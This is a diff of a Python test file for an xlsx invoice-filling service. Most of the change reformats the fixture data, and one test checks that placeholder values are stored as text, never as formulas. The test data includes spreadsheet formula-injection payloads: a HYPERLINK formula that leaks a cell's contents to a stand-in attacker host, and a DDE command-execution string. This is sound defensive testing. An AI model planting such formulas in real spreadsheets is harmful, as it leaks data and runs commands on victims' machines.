@@ -9,16 +9,49 @@ from openpyxl import Workbook, load_workbook
 
 xlsx = load_service("xlsx_invoice")
 
-HEADER = {"number": "INV/2026/0007", "date": date(2026, 7, 31), "customer": "Acme Widgets Ltd",
-          "total": 403.32, "untaxed": 360.57, "tax": 42.75, "due_date": date(2026, 8, 30),
-          "reference": "BR/2026/0001", "company": "Halo IT", "currency": "GBP"}
+HEADER = {
+    "number": "INV/2026/0007",
+    "date": date(2026, 7, 31),
+    "customer": "Acme Widgets Ltd",
+    "total": 403.32,
+    "untaxed": 360.57,
+    "tax": 42.75,
+    "due_date": date(2026, 8, 30),
+    "reference": "BR/2026/0001",
+    "company": "Halo IT",
+    "currency": "GBP",
+}
 LINES = [
-    {"ticket": "HT001", "date": date(2026, 7, 7), "technician": "Terry", "description": "Fixed printer",
-     "quantity": 1.5, "unit": "h", "unit_price": 95.0, "amount": 142.5},
-    {"ticket": "HT001", "date": date(2026, 7, 7), "technician": "Terry", "description": "Late call",
-     "quantity": 1.0, "unit": "h", "unit_price": 142.5, "amount": 142.5},
-    {"ticket": "HT002", "date": date(2026, 7, 8), "technician": "Sam", "description": "Cable",
-     "quantity": 2.0, "unit": "unit", "unit_price": 25.0, "amount": 50.0},
+    {
+        "ticket": "HT001",
+        "date": date(2026, 7, 7),
+        "technician": "Terry",
+        "description": "Fixed printer",
+        "quantity": 1.5,
+        "unit": "h",
+        "unit_price": 95.0,
+        "amount": 142.5,
+    },
+    {
+        "ticket": "HT001",
+        "date": date(2026, 7, 7),
+        "technician": "Terry",
+        "description": "Late call",
+        "quantity": 1.0,
+        "unit": "h",
+        "unit_price": 142.5,
+        "amount": 142.5,
+    },
+    {
+        "ticket": "HT002",
+        "date": date(2026, 7, 8),
+        "technician": "Sam",
+        "description": "Cable",
+        "quantity": 2.0,
+        "unit": "unit",
+        "unit_price": 25.0,
+        "amount": 50.0,
+    },
 ]
 
 
@@ -89,8 +122,10 @@ def test_placeholder_values_are_data_never_formulas():
     wb.save(buf)
     hyperlink = '=HYPERLINK("http://attacker.test/?"&A1,"Pay here")'
     header = dict(HEADER, customer=hyperlink, reference="=1+1")
-    lines = [dict(LINES[0], technician="=cmd|' /C calc'!A0", description="Bell\x07 =2*3"),
-             dict(LINES[1], technician="@SUM(1)")]
+    lines = [
+        dict(LINES[0], technician="=cmd|' /C calc'!A0", description="Bell\x07 =2*3"),
+        dict(LINES[1], technician="@SUM(1)"),
+    ]
     data, _missing = xlsx.fill_template(buf.getvalue(), header, lines)
     sheet = read(data)
     assert (sheet["A1"].data_type, sheet["A1"].value) == ("s", hyperlink)
